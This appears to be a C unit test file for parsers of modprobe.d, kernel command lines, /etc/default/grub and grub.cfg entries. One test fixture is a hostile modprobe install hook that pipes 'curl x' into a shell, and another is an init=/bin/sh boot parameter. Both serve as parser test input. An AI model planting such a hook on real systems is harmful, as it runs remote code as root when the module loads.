/* SPDX-License-Identifier: BSD-3-Clause */
/* Unit tests: the kernel configuration parsers (parse/kmod.c,
 * parse/bootcfg.c): modprobe.d logical lines and commands, module
 * lists, kernel parameters, shell assignments of /etc/default/grub,
 * grub.cfg linux lines and loader entry options, on good and hostile
 * input. */
#include <config.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "parse/bootcfg.h"
#include "parse/kmod.h"
#include "tap.h"
#include "base/util.h"

static char *
copy (const char *p, size_t n)
{
  return vs_xstrndup (p ? p : "", n);
}

/* The parameters of a command line as "key=value|key|..." ("key" alone
 * when it has no value). */
static char *
params (const char *s)
{
  const char *p = s, *end = s + strlen (s);
  struct vs_kparam kp;
  struct vs_buf b = VS_BUF_INIT;

  vs_buf_adds (&b, "");
  while (vs_kparam_next (&p, end, &kp)) {
    if (b.len)
      vs_buf_addc (&b, '|');
    vs_buf_add (&b, kp.key, kp.key_len);
    if (kp.value) {
      vs_buf_addc (&b, '=');
      vs_buf_add (&b, kp.value, kp.value_len);
    }
  }
  return vs_buf_detach (&b, NULL);
}

/* The assignments of a shell file as "LINE:NAME=VALUE;..." with + for
 * += and * when the value referred to variables. */
static char *
assigns (const char *s)
{
  struct vs_buf b = VS_BUF_INIT, v = VS_BUF_INIT;
  struct vs_sh_assign a;
  size_t pos = 0;
  unsigned lines = 0;

  vs_buf_adds (&b, "");
  while (vs_sh_next_assign (s, strlen (s), &pos, &lines, &a, &v)) {
    vs_buf_addf (&b, "%s%u:%.*s%s=%s%s", b.len ? ";" : "", a.line,
                 (int) a.name_len, a.name, a.append ? "+" : "", v.data,
                 a.refs ? "*" : "");
  }
  vs_buf_release (&v);
  return vs_buf_detach (&b, NULL);
}

int
main (void)
{
  struct vs_buf line = VS_BUF_INIT;
  struct vs_kmod_cmd c;
  const char *conf = "# comment\ninstall usb-storage /bin/sh -c \\\n"
    "  'curl x | sh'\noptions md_mod start_ro=1\n\nblacklist pcspkr\n"
    "softdep uhci-hcd pre: ehci-hcd\n";
  size_t pos = 0;
  unsigned lines = 0, first = 0;
  const char *name, *args;
  size_t nl, al;
  char *s, *big;

  tap_plan (26);

  tap_ok (vs_kmod_next_line (conf, strlen (conf), &pos, &line, &lines, &first)
          && first == 1 && vs_kmod_parse (line.data, line.len, &c)
          == VS_KMOD_NONE, "modprobe.d: a comment is nothing");
  tap_ok (vs_kmod_next_line (conf, strlen (conf), &pos, &line, &lines, &first)
          && first == 2 && lines == 3
          && vs_kmod_parse (line.data, line.len, &c) == VS_KMOD_INSTALL,
          "modprobe.d: a continued install line is one, from line 2");
  s = copy (c.module, c.module_len);
  tap_is_str (s, "usb-storage", "install: the module");
  free (s);
  s = copy (c.rest, c.rest_len);
  tap_is_str (s, "/bin/sh -c   'curl x | sh'", "install: the command joined");
  free (s);
  tap_ok (vs_kmod_next_line (conf, strlen (conf), &pos, &line, &lines, &first)
          && first == 4 && vs_kmod_parse (line.data, line.len, &c)
          == VS_KMOD_OPTIONS, "modprobe.d: options on line 4");
  vs_kmod_next_line (conf, strlen (conf), &pos, &line, &lines, &first);
  tap_ok (vs_kmod_next_line (conf, strlen (conf), &pos, &line, &lines, &first)
          && vs_kmod_parse (line.data, line.len, &c) == VS_KMOD_BLACKLIST,
          "modprobe.d: blacklist");
  tap_ok (vs_kmod_next_line (conf, strlen (conf), &pos, &line, &lines, &first)
          && vs_kmod_parse (line.data, line.len, &c) == VS_KMOD_SOFTDEP
          && first == 7, "modprobe.d: softdep on line 7");
  tap_ok (!vs_kmod_next_line (conf, strlen (conf), &pos, &line, &lines,
                              &first), "modprobe.d: the end");
  /* A file of one endless continued line is cut at the cap. */
  big = vs_xmalloc (200001);
  memset (big, 'a', 200000);
  for (pos = 99; pos < 200000; pos += 100)
    big[pos - 1] = '\\', big[pos] = '\n';
  big[200000] = '\0';
  pos = lines = 0;
  tap_ok (vs_kmod_next_line (big, 200000, &pos, &line, &lines, &first)
          && line.len == VS_KMOD_MAX_LINE && pos == 200000 && lines == 2000,
          "modprobe.d: a huge continued line is cut at %u bytes",
          VS_KMOD_MAX_LINE);
  free (big);
  tap_ok (vs_kmod_parse ("install", 7, &c) == VS_KMOD_INSTALL
          && c.module_len == 0 && c.rest_len == 0,
          "modprobe.d: install with nothing after it");

  tap_ok (vs_kmod_list_entry ("  loop max_loop=8 # c", 21, &name, &nl, &args,
                              &al) && nl == 4 && memcmp (name, "loop", 4) == 0
          && al == 10 && memcmp (args, "max_loop=8", 10) == 0,
          "module list: name and arguments, comment left out");
  tap_ok (!vs_kmod_list_entry ("; x", 3, &name, &nl, &args, &al)
          && !vs_kmod_list_entry ("#x", 2, &name, &nl, &args, &al)
          && !vs_kmod_list_entry (" \t", 2, &name, &nl, &args, &al),
          "module list: comments and blank lines");
  tap_ok (vs_kmod_name_eq ("nf_nat-ftp", 10, "nf-nat_ftp", 10)
          && !vs_kmod_name_eq ("a", 1, "ab", 2),
          "module names: - and _ alike");
  tap_ok (vs_kmod_file_module ("x.ko.zst", 8) == 1
          && vs_kmod_file_module ("x.ko", 4) == 1
          && vs_kmod_file_module (".ko", 3) == 0
          && vs_kmod_file_module ("x.o", 3) == 0,
          "module file names");

  s = params ("BOOT_IMAGE=/vmlinuz root=UUID=ab ro  console=ttyS0,115200 "
              "quiet \"dyndbg=file x.c +p\" init=\"/bin/sh\" \n x=\"a b\"");
  tap_is_str (s, "BOOT_IMAGE=/vmlinuz|root=UUID=ab|ro|console=ttyS0,115200|"
              "quiet|dyndbg=file x.c +p|init=/bin/sh|x=a b",
              "kernel parameters split as the kernel does");
  free (s);
  s = params ("\"");
  tap_is_str (s, "", "a lone quote is an empty parameter");
  free (s);
  s = params ("=x \"=");
  tap_is_str (s, "=x|=", "parameters with empty keys");
  free (s);

  s = assigns ("# If you change this file, run 'update-grub'\n"
               "GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\n"
               "GRUB_DISTRIBUTOR=`lsb_release -i -s 2> /dev/null || "
               "echo Debian`\n"
               "GRUB_CMDLINE_LINUX_DEFAULT=\"quiet\"\n"
               "GRUB_CMDLINE_LINUX=\"\"\n");
  tap_is_str (s, "2:GRUB_DEFAULT=0;3:GRUB_TIMEOUT=5;4:GRUB_DISTRIBUTOR=*;"
              "5:GRUB_CMDLINE_LINUX_DEFAULT=quiet;6:GRUB_CMDLINE_LINUX=",
              "Debian's /etc/default/grub");
  free (s);
  s = assigns ("GRUB_CMDLINE_LINUX_DEFAULT=\"$GRUB_CMDLINE_LINUX_DEFAULT "
               "console=tty0 console=ttyS0,115200\"\n"
               "  export A='x \"y\" \\z'\nif true; then\n B=\"multi\nline\""
               " # c\nfi\nC=a\\ b${D}e;F=g\n");
  tap_is_str (s, "1:GRUB_CMDLINE_LINUX_DEFAULT= console=tty0 "
              "console=ttyS0,115200*;2:A=x \"y\" \\z;4:B=multi\nline;"
              "7:C=a be*", "quotes, references, export, lines spanning");
  free (s);
  s = assigns ("add_dracutmodules+=\" crypt \"\nX=\"unterminated\n\nY=1\n");
  tap_is_str (s, "1:add_dracutmodules+= crypt ;2:X=unterminated\n\nY=1\n",
              "+= and an unterminated quote runs to the end");
  free (s);
  s = assigns ("=1\n1A=2\nA\nB=$\nC=\"\\\n\"\nD=${unterminated");
  tap_is_str (s, "4:B=$;5:C=;7:D=*", "odd assignments");
  free (s);
  big = vs_xmalloc (300001);
  memcpy (big, "X=", 2);
  memset (big + 2, 'b', 299999);
  big[300000] = '\0';
  pos = lines = 0;
  {
    struct vs_sh_assign a;

    tap_ok (vs_sh_next_assign (big, 300000, &pos, &lines, &a, &line)
            && line.len == VS_BOOTCFG_MAX_VALUE && pos == 300000,
            "a huge value is cut at %u bytes", VS_BOOTCFG_MAX_VALUE);
  }
  free (big);

  s = vs_xstrdup ("\tlinux\t/boot/vmlinuz-6.1.0-18-amd64 root=UUID=x ro "
                  "quiet ");
  tap_ok (vs_grubcfg_linux (s, strlen (s), &args, &al)
          && al == 20 && memcmp (args, "root=UUID=x ro quiet", 20) == 0,
          "grub.cfg: the arguments of a linux line");
  free (s);
  tap_ok (!vs_grubcfg_linux ("\tinitrd\t/boot/initrd.img", 24, &args, &al)
          && !vs_grubcfg_linux ("# linux /x y", 12, &args, &al)
          && vs_grubcfg_linux ("linuxefi", 8, &args, &al) && al == 0,
          "grub.cfg: other lines, and a linux line without arguments");
  tap_ok (vs_bls_options ("options root=/dev/vda1 rw", 25, &args, &al)
          && al == 17 && !vs_bls_options ("optionsx a", 10, &args, &al),
          "loader entry: the options line");
  tap_ok (vs_bls_options ("options", 7, &args, &al) && al == 0,
          "loader entry: empty options");
  vs_buf_release (&line);
  return tap_done ();
}
